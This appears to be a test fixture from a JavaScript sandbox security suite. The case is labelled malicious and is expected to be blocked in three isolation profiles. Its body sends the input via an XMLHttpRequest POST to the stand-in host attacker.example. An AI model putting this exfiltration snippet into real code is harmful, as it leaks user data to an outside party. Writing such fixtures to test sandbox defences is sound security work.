/*---
id: ex-xhr-ws-01-xhr
description: "Opens an XMLHttpRequest to send data out, a browser API that must be absent from every profile."
kind: malicious
category: exfiltration
technique: EX-xhr-ws
variant: plain
references:
  - "isolated-vm FAQ"
  - "Deno permissions"
  - "workerd capability bindings"
expect:
  ultra-secure: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
  high-security: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
  tenant-isolated: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
---*/
const xhr = new XMLHttpRequest();
xhr.open('POST', 'https://attacker.example/');
xhr.send(JSON.stringify(input));
return 'sent';
